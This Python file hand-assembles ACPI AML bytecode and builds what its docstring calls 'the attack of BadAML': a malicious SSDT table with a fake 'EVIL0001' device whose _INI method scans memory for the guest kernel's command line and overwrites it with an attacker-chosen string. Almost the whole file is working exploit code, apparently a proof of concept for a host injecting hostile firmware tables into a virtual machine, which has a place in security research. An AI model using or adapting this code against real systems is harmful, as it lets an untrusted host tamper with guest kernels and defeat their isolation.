# SPDX-License-Identifier: Apache-2.0
"""Tables of a host's own making, without a compiler of ASL (ACPI specification 6.5, section 20)."""
import struct

LOCAL0, ARG0, ARG1 = b'\x60', b'\x68', b'\x69'


def number(v):
    return b'\x0c' + struct.pack('<I', v)


def package(opcode, body):
    """PkgLength counts itself."""
    for n in (1, 2, 3):
        size = len(body) + n
        if size < 64 and n == 1:
            return opcode + bytes([size]) + body
        if n > 1 and size < 1 << (4 + 8 * (n - 1)):
            return opcode + bytes([(n - 1) << 6 | size & 15]) + (size >> 4).to_bytes(n - 1, 'little') + body
    raise ValueError(len(body))


def method(name, args, body):
    return package(b'\x14', name + bytes([args]) + body)


def memory(region, address, size, access, fields):
    """OperationRegion in memory, and its Field."""
    names = b''.join(name + length(bits) for name, bits in fields)
    return b'\x5b\x80' + region + b'\0' + address + b'\x0a' + bytes([size]) + package(b'\x5b\x81', region + bytes([access]) + names)


def length(bits):
    return bytes([bits]) if bits < 64 else bytes([0x40 | bits & 15, bits >> 4])


def equal(a, b):
    return b'\x93' + a + b


def table(name, body, revision=2, oem=b'HOST  ', oem_table=b'BADAML  '):
    head = struct.pack('<4sIBB6s8sI4sI', name, 36 + len(body), revision, 0, oem, oem_table, 1, b'EVIL', 1)
    raw = bytearray(head + body)
    raw[9] = -sum(raw) & 255
    return bytes(raw)


def bad(old, new, first, last):
    """The attack of BadAML: a device whose _INI looks for the kernel's copy of its command line, `old`, in memory between two addresses, and
    writes `new` over it. Both are of one length."""
    head = struct.unpack('<II', old[:8])
    body = b'\x08_HID\x0dEVIL0001\0'
    body += method(b'LOOK', 9, memory(b'R0__', ARG0, 8, 0x03, [(b'W0__', 32), (b'W1__', 32)]) +
                   b'\xa4\x90' + equal(b'W0__', number(head[0])) + equal(b'W1__', number(head[1])))
    body += method(b'PUT1', 10, memory(b'R2__', ARG0, 1, 0x01, [(b'W3__', 8)]) + b'\x70' + ARG1 + b'W3__')
    writes = b''.join(b'PUT1' + b'\x72' + LOCAL0 + number(i) + b'\0' + number(new[i]) for i in range(len(old)) if old[i] != new[i])
    found = package(b'\xa0', b'LOOK' + LOCAL0 + writes)
    body += method(b'_INI', 8, b'\x70' + number(first) + LOCAL0 +
                   package(b'\xa2', b'\x95' + LOCAL0 + number(last) + found + b'\x72' + LOCAL0 + number(64) + LOCAL0))
    body += method(b'_STA', 0, b'\xa4\x0a\x0f')
    return table(b'SSDT', package(b'\x10', b'\\_SB_' + package(b'\x5b\x82', b'EVL0' + body)))
